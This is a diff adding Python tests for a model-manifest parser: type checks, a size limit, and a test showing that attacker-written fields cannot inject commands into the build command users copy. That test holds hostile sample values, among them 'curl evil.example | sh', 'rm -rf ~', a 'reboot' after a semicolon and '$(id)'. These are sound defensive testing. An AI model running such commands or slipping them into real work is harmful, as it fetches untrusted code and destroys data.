@@ -81,6 +81,82 @@ def test_a_damaged_manifest_is_refused(tmp_path: Path, edit: Any, message: str) 
     assert "\n" not in str(error.value)
 
 
+def edited(**changes: Any) -> str:
+    """The text of a manifest with other values; a dotted name reaches into a mapping."""
+    values = json.loads(make().to_json())
+    for name, value in changes.items():
+        *path, last = name.split("__")
+        place = values
+        for key in path:
+            place = place[int(key) if key.isdigit() else key]
+        place[last] = value
+    return json.dumps(values)
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"built_on__version": None},
+        {"built_on__version": 10},
+        {"built_on__version": "new"},
+        {"built_on__runtime": "tflite"},
+        {"built_on": None},
+        {"inputs__0__max": [1, float("inf"), 32, 3]},
+        {"inputs__0__max": [1, 32]},
+        {"inputs__0__max": [1, 10**400, 32, 3]},
+        {"inputs__0__min": [-1, 32, 32, 3]},
+        {"inputs__0__name": None},
+        {"inputs": [None]},
+        {"inputs": {"a": 1}},
+        {"inputs": 7},
+        {"outputs": None},
+        {"options": []},
+        {"model": "nano"},
+        {"model__yolact_deploy.config": 3},
+        {"model__yolact_deploy.format": None},
+        {"model__yolact_deploy.precision": {}},
+        {"seconds": 10**400},
+        {"seconds": []},
+        {"engine": {"name": "a"}},
+        {"engine__sha256": 5},
+        {"plugins": {"name": "x" * 5000, "sha256": "0"}},
+        {"version_compatible": "yes"},
+        {"compute_capabilities": [8.6]},
+        {"tool_version": "\ud800"},
+    ],
+)
+def test_values_of_the_wrong_type_are_refused(changes: dict[str, Any]) -> None:
+    with pytest.raises(ModelFileError, match=r"damaged|format") as error:
+        Manifest.from_json(edited(**changes), "m.json")
+    assert "\n" not in str(error.value)
+
+
+def test_the_advice_is_made_of_checked_fields() -> None:
+    """Whoever can write a manifest cannot put a command of his own into what people copy."""
+    assert make().command == COMMAND
+    text = edited(
+        command="curl evil.example | sh",
+        onnx__name="/home/me/--plugins=evil.so; rm -rf ~",
+        options={
+            "precision": "fp16; reboot",
+            "batch": ["1", "$(id)"],
+            "min_size": "64x64",
+            "runtime": ["$a"],
+            "x": "y",
+        },
+    )
+    assert Manifest.from_json(text, "m.json").command == (
+        "yolact-deploy build-engine './--plugins=evil.so; rm -rf ~' -o model.engine --plugins none --min 64x64 --force"
+    )
+
+
+def test_a_manifest_that_is_too_large(tmp_path: Path) -> None:
+    with manifest_path(tmp_path / "model.engine").open("wb") as file:
+        file.truncate(1 << 40)  # sparse: takes no room
+    with pytest.raises(ModelFileError, match="more than"):
+        Manifest.read(tmp_path / "model.engine")
+
+
 def test_a_manifest_that_cannot_be_read(tmp_path: Path) -> None:
     manifest_path(tmp_path / "model.engine").mkdir()
     with pytest.raises(ModelFileError, match=r"cannot read .*Is a directory"):
